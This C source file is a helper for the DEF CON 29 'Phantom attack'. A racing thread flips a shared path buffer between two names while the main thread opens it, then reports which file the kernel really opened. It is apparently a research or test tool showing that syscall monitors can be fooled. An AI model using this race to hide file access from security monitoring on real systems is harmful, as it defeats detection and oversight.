// SPDX-License-Identifier: GPL-2.0
/*
 * Phantom-attack helper (DEF CON 29): the main thread opens the path in a
 * shared buffer again and again while a second thread rewrites that buffer
 * between two names in a tight loop, so the string in user memory at
 * syscall entry and exit need not be the one the kernel used. For every
 * successful open it prints "fd N PATH", PATH from /proc/self/fd/N: what the
 * kernel really opened.
 *   file_phantom PATH_A PATH_B COUNT     (both names the same length)
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char buf[4096];
static const char *names[2];
static size_t name_len;
static atomic_int stop;

static void *flipper(void *arg)
{
	unsigned i = 0;

	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy((void *)buf, names[i & 1], name_len);
		i++;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t th;
	long i, count;
	char link[64], path[4096];

	if (argc != 4 || strlen(argv[1]) != strlen(argv[2])) {
		fprintf(stderr, "usage: file_phantom PATH_A PATH_B COUNT (same length)\n");
		return 2;
	}
	names[0] = argv[1];
	names[1] = argv[2];
	name_len = strlen(argv[1]);
	count = strtol(argv[3], NULL, 0);
	memcpy(buf, names[0], name_len + 1);
	if (pthread_create(&th, NULL, flipper, NULL))
		return 1;
	for (i = 0; i < count; i++) {
		int fd = openat(AT_FDCWD, buf, O_RDONLY);
		ssize_t n;

		if (fd < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, path, sizeof(path) - 1);
		path[n < 0 ? 0 : n] = '\0';
		printf("fd %d %s\n", fd, path);
		close(fd);
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	return 0;
}
